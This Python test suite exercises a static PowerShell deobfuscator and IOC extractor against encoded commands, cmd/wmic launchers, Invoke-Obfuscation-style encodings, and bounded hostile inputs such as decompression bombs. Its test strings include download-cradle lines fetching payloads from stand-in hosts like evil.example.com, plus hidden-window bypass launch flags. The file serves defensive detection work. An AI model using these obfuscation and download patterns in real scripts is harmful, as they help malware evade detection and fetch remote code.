"""The static deobfuscator, technique by technique, layered, IOCs, and every bad input bounded."""

import base64
import gzip
import importlib
import random
import threading
import time
import zlib

import pytest

from threatscope.powershell import deobfuscate, extract_iocs
from threatscope.powershell.obfuscate import special_chars_command, whitespace_command
from threatscope.powershell.tokenize import code_tokens

GOAL = "Write-Host ok"


def enc(script: str) -> str:
    """What -EncodedCommand takes: base64 of UTF-16LE."""
    return base64.b64encode(script.encode("utf-16-le")).decode()


def b64(data: bytes) -> str:
    return base64.b64encode(data).decode()


def deflate(text: str) -> bytes:
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    return c.compress(text.encode()) + c.flush()


def rev(s: str) -> str:
    return s[::-1]


@pytest.mark.parametrize(
    "cmdline",
    [
        f"powershell -enc {enc(GOAL)}",
        f"powershell.exe -nop -w hidden -e {enc(GOAL)}",
        f"powershell -ec {enc(GOAL)}",
        f"powershell -EncodedCommand {enc(GOAL)}",
        f"powershell -eNcOdEdC {enc(GOAL)}",
        f"powershell /enc {enc(GOAL)}",
        f"powershell \u2013enc {enc(GOAL)}",
        f'"C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe" -NoP -NonI -Exec Bypass -enc "{enc(GOAL)}"',
        f"pwsh -enc {enc(GOAL)}",
        f"POWERSHELL.EXE -WindowStyle Hidden -ExecutionPolicy Bypass -enc {enc(GOAL)}",
    ],
)
def test_encodedcommand(cmdline):
    r = deobfuscate(cmdline)
    assert r.layers[0].technique == "encodedcommand"
    assert r.final == GOAL
    assert "encodedcommand" in r.techniques


@pytest.mark.parametrize(
    "cmdline,techniques",
    [
        (f'cmd /c "powershell -nop -c {GOAL}"', ["launcher"]),
        (f"cmd.exe /c powershell -Command {GOAL}", ["launcher"]),
        (f'cmd /c "set x={GOAL}&& powershell -nop -c iex $env:x"', ["launcher", "iex"]),
        (f"cmd /c echo {GOAL} | powershell -", ["launcher"]),
        (f"cmd /c echo {GOAL} | powershell -nop -command -", ["launcher"]),
        (f'cmd /c "echo {GOAL} | clip && powershell -c Get-Clipboard | iex"', ["launcher", "iex"]),
        (f"cmd /c p^owershell -c {GOAL}".replace("p^ow", "pow"), ["launcher"]),
        ("cmd /c powershell -c Write-Ho^st ok", ["carets"]),  # carets cmd needs not: obfuscation
        (f'wmic.exe process call create "powershell -nop -c {GOAL}"', ["launcher"]),
        (f'C:\\Windows\\System32\\wbem\\WMIC.exe /node:"10.0.0.5" /user:"CORP\\adm" '
         f'/password:"P w!" process call create "powershell.exe -w hidden /enc {enc(GOAL)}"',
         ["launcher", "encodedcommand"]),
    ],
)
def test_launchers(cmdline, techniques):
    r = deobfuscate(cmdline)
    assert r.final == GOAL
    assert set(techniques) <= r.techniques


@pytest.mark.parametrize("cmdline", [
    'wmic process call create "notepad.exe C:\\powershell\\notes.txt"',  # starts no PowerShell
    "wmic process where name='powershell.exe' get commandline",  # reads, starts nothing
])
def test_wmic_without_powershell_is_no_launcher(cmdline):
    assert deobfuscate(cmdline).layers == []


@pytest.mark.parametrize(
    "script,technique",
    [
        ("iex ('Write-'+'Host'+' ok')", "concat"),
        ("iex (\"{1}{0}\" -f 'Host ok','Write-')", "format"),
        ("Invoke-Expression ('{0}{1}{2}' -f 'Wri','te-Ho','st ok')", "format"),
        ("iex ([char]87+[char]0x72+'ite-Host ok')", "char-codes"),
        ("iex (-join [char[]](87,114,105,116,101,45,72,111,115,116,32,111,107))", "char-codes"),
        ("iex (((87,114,105,116,101,45,72,111,115,116,32,111,107) | % {[char]$_}) -join '')", "char-codes"),
        ("iex ([string]::Join('', @('Write','-Host',' ok')))", "join"),
        ("iex (('Write','-Host ok') -join '')", "join"),
        ('i`e`x ("Wr`ite-Host ok")', "backticks"),
        ("InVoKe-ExPrEsSiOn 'Write-Host ok'", "case"),
        ("$r = 'ko tsoH-etirW'; iex ($r[-1..-($r.Length)] -join '')", "reverse"),
        ("$c = 'ko tsoH-etirW'.ToCharArray(); [array]::Reverse($c); iex (-join $c)", "reverse"),
        ("iex (-join [regex]::Matches('ko tsoH-etirW','.','RightToLeft'))", "reverse"),
        ("iex ('Wrizze-Host ok'.Replace('zze','te'))", "replace"),
        ("iex ('WriXX-Host ok' -replace 'XX','te')", "replace"),
        ("iex ('WriXX-Host ok' -creplace 'XX','te' -replace 'zz','')", "replace"),
        ("iex (('Write|-Host| ok' -split '\\|') -join '')", "split"),
        ("iex ('Write~-Host~ ok'.Split('~') -join '')", "split"),
        ("iex ([Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('V3JpdGUtSG9zdCBvaw==')))", "base64"),
        (f"iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('{enc(GOAL)}')))", "base64"),
        ("$k=0x4b; iex ((@(28,57,34,63,46,102,3,36,56,63,107,36,32) | %{ [char]($_ -bxor $k) }) -join '')", "bxor"),
        ("&($ShellId[1]+$ShellId[13]+'x') 'Write-Host ok'", "iex-alias"),
        ("&( $env:ComSpec[4,15,25]-join'') 'Write-Host ok'", "iex-alias"),
        (".( $PSHome[4]+$PSHome[30]+'x') ('Write-Host ok')", "iex-alias"),
        ("&((Get-Variable '*mdr*').Name[3,11,2]-join'') 'Write-Host ok'", "iex-alias"),
        ("& ((gv '*mdr*').Name[3,11,2]-join'') 'Write-Host ok'", "iex-alias"),
        (".($VerbosePreference.ToString()[1,3]+'x'-join'') 'Write-Host ok'", "iex-alias"),
        ("'Write-Host ok' | &($ShellId[1]+$ShellId[13]+'x')", "iex-alias"),
        ("'Write-Host ok' | iex", "iex"),
        ("$s = 'Write-Host ok'; Invoke-Expression -Command $s", "iex"),
        ("[ScriptBlock]::Create('Write-Host ok').Invoke()", "iex"),
        ("$ExecutionContext.InvokeCommand.InvokeScript('Write-'+'Host ok')", "iex"),
        ("$ExecutionContext.InvokeCommand.NewScriptBlock(\"Write-Host ok\").Invoke()", "iex"),
        ("(New-Object Net.WebClient).(\"Down\"+\"loadString\") | Out-Null; iex ('Write-Host'+' ok')", "concat"),
    ],
)
def test_technique(script, technique):
    r = deobfuscate(script)
    assert r.final == GOAL, (r.layers, r.reason)
    assert technique in r.techniques
    assert not r.truncated


def test_whitespace_encoding():
    """Characters as runs of spaces between tabs, decoded by their lengths."""
    runs = "`t".join(" " * ord(c) for c in GOAL)
    r = deobfuscate('iex (-join ("' + runs + '" -split "`t" | % {[char]$_.Length}))')
    assert r.final == GOAL
    assert {"split", "char-codes", "join"} <= r.techniques and "backticks" not in r.techniques


def test_deflate_and_gzip_streams():
    d = b64(deflate(GOAL))
    script = (
        ".( $PSHome[4]+$PSHome[30]+'x') ((New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        f"[IO.MemoryStream][Convert]::FromBase64String('{d}'),[IO.Compression.CompressionMode]::Decompress)),"
        "[Text.Encoding]::ASCII)).ReadToEnd())"
    )
    r = deobfuscate(script)
    assert r.final == GOAL
    assert {"deflate", "base64", "iex-alias"} <= r.techniques
    g = b64(gzip.compress(GOAL.encode()))
    script = (
        "IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,"
        f"[Convert]::FromBase64String('{g}'))),[IO.Compression.CompressionMode]::Decompress))).ReadToEnd()"
    )
    r = deobfuscate(script)
    assert r.final == GOAL
    assert "gzip" in r.techniques


def test_fold_without_invoke():
    """No Invoke-Expression: what folds is rewritten in place, the rest stays as written."""
    r = deobfuscate("(New-Object Net.WebClient).(\"Down\"+\"loadString\")(\"ht\"+'tp://x.example.com/'+[char]97)")
    assert r.final == "(New-Object Net.WebClient).('DownloadString')('http://x.example.com/a')"
    assert {"concat", "char-codes"} <= r.techniques
    r = deobfuscate("W`ri`te-H`ost ok")
    assert r.final == GOAL and "backticks" in r.techniques
    r = deobfuscate("$wc = NeW-OBjeCt SYStEm.NEt.WEBCLIEnt; $wc.DownloadString('http://a.example.com/')")
    assert r.final == "$wc = new-object system.net.webclient; $wc.DownloadString('http://a.example.com/')"
    assert "case" in r.techniques
    plain = "$wc = New-Object System.Net.WebClient; $wc.DownloadString('http://a.example.com/')"
    assert deobfuscate(plain).layers == []


@pytest.mark.parametrize("expr,value", [
    ("1 + 2 * 3", 7), ("10 - 4 - 3", 3), ("12 % 5 * 2", 4), ("2 * 3 -bxor 1", 7),
    ("0x41 -band 0x0f -bor 0x30", 49), ("'x' * 2 + 'y'", "xxy"), ("'{0}' -f 1 + 1", "11"),
    ("'{0}{1}' -f 'a','b' + 'c'", "abc"), ("'a','b' -join '-'", "a-b"), ("-join 'a','b'", ["a", "b"]),
    ("1..3 -join ''", "123"), ("5 -eq 5 -join ''", "True"), ("'a-b' -split '-' -join '+'", "a+b"),
    ("-1 + -2", -3), ("[char]65 + [char]66", "AB"), (",1 + 2", [1, 2]), ("1,2 + 3", [1, 2, 3]),
])
def test_operator_precedence(expr, value):
    """The folder's grouping: comparisons and -join/-split/-replace lowest, then -bxor/-band/-bor,
    + -, * / %, -f, `..`, the comma, the unary operators; all left to right."""
    dob = importlib.import_module("threatscope.powershell.deobfuscate")
    toks = code_tokens(expr)
    folder = dob._Folder(toks, dict(dob._AUTO_VARS), dob._Ctx(10_000, dob.MAX_BYTES), set())
    assert folder.pipeline(0) == (value, len(toks))


@pytest.mark.parametrize("script", [
    "($x) ('a') (1, 2, 3) ($a -eq 'b') (- - 5) ($x; $y) ('W`rite') (\"a$x\") ('Write-' + 'Host')",
    "$a = 'x'; ($a -ne $b -and 'c') (`$x) ([char]97) ('{0}' -f 'b') (-join ('c', 'd'))",
    "(" * 70 + "$x" + ")" * 70, "(" + "- " * 130 + "1)", "(" + ",".join(["1"] * 5000) + ")",
])
def test_fold_passes_over_no_rewrite_only(monkeypatch, script):
    """The parentheses _fold does not evaluate (_inert) are ones it would not have rewritten."""
    dob = importlib.import_module("threatscope.powershell.deobfuscate")
    fast = deobfuscate(script, budget_ms=10_000).to_dict()
    monkeypatch.setattr(dob, "_inert", lambda *_: False)
    assert deobfuscate(script, budget_ms=10_000).to_dict() == fast


def test_unknown_calls_stay_as_written():
    script = "iex (Get-Content C:\\x.ps1); iex $unknown; & $cmd 'a'"
    r = deobfuscate(script)
    assert r.layers == [] and r.final == script and not r.truncated


def test_layers_combined():
    inner = "iex ([Text.Encoding]::Unicode.GetString([Convert]::FromBase64String('" + enc(GOAL) + "')))"
    middle = f"$r = '{rev(inner).replace(chr(39), chr(39) * 2)}'; &($ShellId[1]+$ShellId[13]+'x') ($r[-1..-($r.Length)] -join '')"
    outer = f'cmd /c "powershell -nop -w hidden -enc {enc(middle)}"'
    r = deobfuscate(outer)
    assert [layer.text for layer in r.layers] == [middle, inner, GOAL]
    assert r.layers[0].technique == "encodedcommand"
    assert {"encodedcommand", "reverse", "iex-alias", "base64", "iex"} <= r.techniques
    assert r.final == GOAL


def test_secure_string():
    r = deobfuscate("$s = ConvertTo-SecureString '76492d1116743f0423413b16050a5345' -Key (1..16); "
                    "iex ([Runtime.InteropServices.Marshal]::PtrToStringAuto([Runtime.InteropServices.Marshal]::SecureStringToBSTR($s)))")
    assert r.secure_string and "securestring" in r.techniques


def test_iocs():
    script = ("iex ('(New-Object Net.WebClient).DownloadFile(''http://evil.example.com:8080/a.exe'',"
              "''C:\\Users\\Public\\a.exe''); $c = ''10.1.2.3''; nslookup cdn.badhost.ru')")
    r = deobfuscate(script)
    assert r.iocs["urls"] == ["http://evil.example.com:8080/a.exe"]
    assert set(r.iocs["domains"]) == {"evil.example.com", "badhost.ru".join(["cdn.", ""])}
    assert r.iocs["ips"] == ["10.1.2.3"]
    assert "C:\\Users\\Public\\a.exe" in r.iocs["paths"]
    none = extract_iocs("$x.Name = [System.Net.WebClient]::new(); 1.2.3.999; Get-Item $env:TEMP")
    assert none == {"urls": [], "domains": [], "ips": [], "paths": []}


# -- bad input: bounded, reported, never an exception ----------------------------------------------

LIMIT_S = 1.5  # the budget is 50 ms; this leaves room for a busy shared machine


def timed(text, **kw):
    t = time.perf_counter()
    r = deobfuscate(text, **kw)
    return r, time.perf_counter() - t


def test_truncated_base64():
    full = enc("IEX ('Write-Host ok')")
    r, dt = timed(f"powershell -enc {full[:-7]}")
    assert r.layers and r.layers[0].technique == "encodedcommand" and r.reason
    assert r.layers[0].text.startswith("IEX ('Write-Host")
    assert dt < LIMIT_S


def test_invalid_utf16():
    bad = base64.b64encode(b"W\x00r\x00\x00\xd8i\x00").decode()  # a lone surrogate
    r, dt = timed(f"powershell -enc {bad}")
    assert r.reason == "invalid UTF-16" and r.final.startswith("Wr")
    assert dt < LIMIT_S


def test_huge_script_is_capped():
    script = ("$a = 'x' + 'y'; Write-Host $a\n" * 2_000_000)[: 50 * 1024 * 1024]
    r, dt = timed(script)
    assert r.truncated and r.reason == "input size cap"
    assert dt < LIMIT_S * 2


def test_ten_thousand_layers():
    chain = "$a0 = 'Write-Host ok'\n" + "".join(f"$a{i} = 'iex $a{i - 1}'\n" for i in range(1, 10_000)) + "iex $a9999"
    r, dt = timed(chain, budget_ms=2000)
    assert r.truncated and r.reason == "layer cap" and len(r.layers) == 64
    assert dt < 5
    r, dt = timed(chain)  # the default budget cuts it sooner
    assert r.truncated and r.reason in ("layer cap", "time budget")
    assert dt < LIMIT_S


def test_the_budget_counts_work_so_a_busy_machine_cuts_where_an_idle_one_does():
    # a script the budget cuts: with a wall-clock budget, a thread competing for the interpreter
    # (half its time) cut it sooner, and the analysis (here its techniques) changed from run to
    # run; counted in work, the cut is where the work ran out, whatever the machine's load
    script = "\n".join(f"Write-Host ('ab'+'c{i}')" for i in range(3000))
    idle = deobfuscate(script).to_dict()
    assert idle["truncated"] and idle["reason"] == "time budget"
    stop = threading.Event()

    def spin() -> None:
        while not stop.is_set():
            pass

    busy = threading.Thread(target=spin)
    busy.start()
    try:
        runs = [deobfuscate(script).to_dict() for _ in range(3)]
    finally:
        stop.set()
        busy.join()
    assert runs == [idle] * 3


def test_deep_nesting():
    r, dt = timed("iex " + "(" * 10_000 + "'Write-Host ok'" + ")" * 10_000)
    assert r.truncated and r.reason in ("depth cap", "time budget")
    assert dt < LIMIT_S
    r, dt = timed("iex " + "(" * 20 + "'Write-Host ok'" + ")" * 20)
    assert r.final == GOAL


def test_deflate_bomb():
    c = zlib.compressobj(9, zlib.DEFLATED, -15)
    zeros = b"\0" * (1 << 20)
    bomb = b"".join(c.compress(zeros) for _ in range(64)) + c.flush()  # 64 MiB of zeros in ~64 KB
    script = (
        "iex (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream([IO.MemoryStream]"
        f"[Convert]::FromBase64String('{b64(bomb)}'),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()"
    )
    r, dt = timed(script, budget_ms=5000)  # time enough to reach the cap even on a busy machine
    assert r.truncated and r.reason == "decompression cap"
    assert len(r.final) <= 4 * 1024 * 1024
    assert dt < 5
    r, dt = timed(script)
    assert r.truncated and dt < LIMIT_S * 2


def test_binary_and_random_input():
    rnd = random.Random(7)
    blob = rnd.randbytes(1_000_000)
    for data in (blob, blob.decode("latin-1"), "powershell -enc " + blob[:3000].hex(), b"\xff\xfe\x00"):
        r, dt = timed(data)
        assert isinstance(r.final, str)
        assert dt < LIMIT_S
    alphabet = ["iex", "(", ")", "'", '"', "+", "-f", "-join", "[char]", "$x", "=", ";", "|", "&", ".", ",", "..",
                "-1", "0x41", "[", "]", "{", "}", "%", "-bxor", "::", "`", "-split", "-replace", "@(", "$(", " ",
                "'a'", '"b$x"', "[char[]]", "[Convert]", "FromBase64String", "'{0}{1}'", "[string]", "Join",
                "Replace", "'QUJD'", "New-Object", "IO.MemoryStream", "[Text.Encoding]", "UTF8", "GetString",
                "$ShellId", "[array]", "Reverse", "*", "99999999", "[regex]", "Matches", "'RightToLeft'", "Length"]
    for _ in range(1500):
        s = "".join(rnd.choice(alphabet) for _ in range(rnd.randrange(1, 60)))
        r, dt = timed(s)
        assert dt < LIMIT_S
        assert not (r.reason or "").startswith("internal"), (s, r.reason)  # the folder handled it


def test_hostile_regex_is_not_run():
    r, dt = timed("iex ('aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa!' -replace '(a+)+$','x')")
    assert dt < LIMIT_S and r.layers == []


def test_carets_in_a_cmd_launched_powershell_name():
    """cmd removes its caret escapes before PowerShell starts: `p^owe^rshell` is powershell."""
    r = deobfuscate("cmd.exe /c p^owe^rshe^ll -NoP -e SQBFAFgA")
    assert r.final == "IEX" and "encodedcommand" in r.techniques
    assert deobfuscate("echo p^owe^rshell").layers == []  # not launched by cmd /c
    r = deobfuscate('cmd /c p^owe^rshell -nop -c "Get-Date"')
    assert r.final == "Get-Date" and r.techniques == {"carets"}


LONG = "IEX (New-Object Net.WebClient).DownloadString('http://a.example.com/payload.ps1')"


def test_damaged_base64_junk_after_the_value():
    """A macro's `",NULL,NULL);` or a literal `\\xc3` after the value: read up to it."""
    for junk in ('",NULL,NULL);', "\\xc3\\xa9r"):
        r = deobfuscate(f"powershell -w hidden -enc {enc(LONG)}{junk}")
        assert r.layers[0].text == LONG and r.reason.startswith("base64 damaged"), (junk, r.layers[0].text)


def test_damaged_base64_resynchronised():
    """A character lost mid-stream shifts all after it; each text run is read in its own alignment."""
    value = enc(LONG)
    cut = value[:40] + value[41:]  # one character gone: the rest is off by 6 bits
    r = deobfuscate(f"powershell -enc {cut}")
    # the space whose bits the lost character held is gone, the rest is all there
    assert r.layers[0].text == LONG.replace("Object Net", "ObjectNet")
    assert r.reason.startswith("base64 damaged")
    # junk before the payload, a byte off: skipped, not decoded into noise
    r = deobfuscate("powershell -enc 1hdioweuzvisk78elopadjur" + value[2:])
    assert LONG[2:] in r.layers[0].text and r.reason.startswith("base64 damaged")


def test_base64_of_utf8_and_a_cut_last_character():
    utf8 = base64.b64encode(LONG.encode()).decode()
    r = deobfuscate(f"powershell -enc {utf8}")
    assert r.layers[0].text == LONG and r.reason == "base64 of UTF-8, not UTF-16LE"
    odd = base64.b64encode(LONG.encode("utf-16-le")[:-1]).decode()  # the last ')' lost its zero byte
    assert deobfuscate(f"powershell -enc {odd}").layers[0].text == LONG


def test_no_space_after_powershell_exe():
    r = deobfuscate(f"powershell.exe-window hidden -enc {enc(GOAL)}")
    assert r.final == GOAL and r.layers[0].technique == "encodedcommand"


def test_noise_is_not_read_as_text():
    """No text in the bytes: the strict decode stays (nothing is made up), no lenient runs."""
    r = deobfuscate("powershell -enc BBBBAAAAAAAAAAAAAAAACCCCCCCCCCCCCCCC")
    assert r.layers and not (r.reason or "").startswith("base64 damaged")


PAYLOAD = "Write-Host \"hi\" $env:TEMP; (New-Object Net.WebClient).DownloadString('http://a.example.com/x')"


@pytest.mark.parametrize("seed", range(6))
def test_special_characters_encoding(seed):
    """Invoke-Obfuscation's ${;}=+$();${=}=${;};${+}=++${;}... form, evaluated statement by statement."""
    script = special_chars_command(PAYLOAD, random.Random(seed))
    r = deobfuscate(script, budget_ms=2000)  # ~10 ms; a busy machine must not cut it short
    assert r.final == PAYLOAD, (r.layers, r.reason)
    assert r.layers[0].technique == "special-chars" and r.layers[0].text.endswith("|iex\"|&'iex'")
    assert "special-chars" in r.techniques and not r.truncated


def test_special_character_variables_alone_are_no_layer():
    counting = ("${;}=+$();${=}=${;};${+}=++${;};${@}=++${;};${.}=++${;};${[}=++${;};${]}=++${;};"
                "${(}=++${;};${)}=++${;};${&}=++${;};${|}=++${;};\nWrite-Host \"${+}${@} of ${|}\"")
    assert deobfuscate(counting).layers == []
    braces = "${my var} = 1; ${env:ProgramFiles(x86)}; ${a}=++${my var}; Write-Output \"${a}\""
    assert deobfuscate(braces).layers == []


@pytest.mark.parametrize("seed", range(6))
def test_whitespace_encoding_digits(seed):
    """Invoke-Obfuscation's whitespace form: digits as runs (digit + 1 long), read by .Length-1."""
    script = whitespace_command(PAYLOAD, random.Random(seed))
    assert set(script.split("'")[1]) == {" ", "\t"}
    r = deobfuscate(script, budget_ms=2000)  # a busy machine must not cut it short
    assert r.layers[0].technique == "whitespace-encoding" and r.final == PAYLOAD, (r.layers, r.reason)


def test_whitespace_strings_alone_are_no_layer():
    script = ("$indent = '    \t    \t        \t\t    '\n$w = $indent.Length - 1\n"
              "& (Get-Command Write-Host) ($indent + 'x')")
    assert deobfuscate(script).layers == []


def test_a_powershell_started_with_its_command_in_a_string():
    # Powerfun's relaunch: a 32-bit PowerShell given the real command in ProcessStartInfo
    script = ("$s=New-Object System.Diagnostics.ProcessStartInfo;$s.FileName='powershell.exe';"
              f"$s.Arguments='-nop -w hidden -c iex (''{GOAL[:6]}''+''{GOAL[6:]}'')';"
              "$s.UseShellExecute=$false;$p=[System.Diagnostics.Process]::Start($s)")
    r = deobfuscate(script)
    assert r.final == GOAL and "launcher" in r.techniques
    r = deobfuscate(f"Start-Process powershell.exe -ArgumentList '-enc {enc(GOAL)}'")
    assert r.final == GOAL and "encodedcommand" in r.techniques
    # look-alikes: another program's arguments; an argument string that expands at run time
    for plain in ("$s.FileName='notepad.exe';$s.Arguments='C:\\notes.txt' # from powershell",
                  "Start-Process msiexec.exe -ArgumentList '/i x.msi /qn' # powershell setup",
                  'Start-Process powershell -ArgumentList "-c $cmd"'):
        assert deobfuscate(plain).layers == [], plain
